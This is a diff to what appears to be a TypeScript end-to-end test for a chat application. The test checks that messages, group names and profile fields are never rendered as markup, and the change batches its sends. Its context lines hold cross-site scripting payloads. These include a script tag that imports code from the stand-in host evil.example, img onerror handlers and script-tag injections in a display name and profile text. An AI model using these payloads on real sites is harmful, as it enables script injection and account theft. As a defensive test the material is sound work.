@@ -75,6 +75,8 @@ const shapes: ((call: string) => string)[] = [
   (call) => `<script type=module>import('https://evil.example/x.js').then(()=>${call})</script>`,
   (call) => `<script nonce="">${call}</script>`,
 ];
+/** So many of them are sent at a time. */
+const together = 10;
 const payloads = shapes.flatMap((shape) => calls.map(shape)).slice(0, 201);
 
 /** Watches a page for anything that a payload might bring about. */
@@ -126,7 +128,10 @@ test('what people write is never more than text', async ({ signUp, server }) => 
   const anas = await userId(mallory, ana.username);
 
   const chat = await mallory.direct(new Person(server.url, { id: anas } as Person['user'], ''));
-  await Promise.all(payloads.map((text, i) => mallory.say(chat, `${text} #${i}`)));
+  for (let from = 0; from < payloads.length; from += together) {
+    const some = payloads.slice(from, from + together);
+    await Promise.all(some.map((text, i) => mallory.say(chat, `${text} #${from + i}`)));
+  }
   const names = payloads.filter(({ length }) => length <= 60).slice(0, 12);
   const greet = async (name: string, i: number) => {
     const body = { username: `evil${i}`, password: 'correct horse battery', displayName: name };
@@ -141,7 +146,8 @@ test('what people write is never more than text', async ({ signUp, server }) => 
     await evil.say(group, name);
     return { id: group.id, name };
   };
-  const groups = await Promise.all(names.map(greet));
+  const groups = [];
+  for (const [i, name] of names.entries()) groups.push(await greet(name, i));
   await mallory.done('PATCH', '/users/me', {
     displayName: 'Mallory <img src=x onerror=xss()>',
     about: '"><script>xss()</script>',
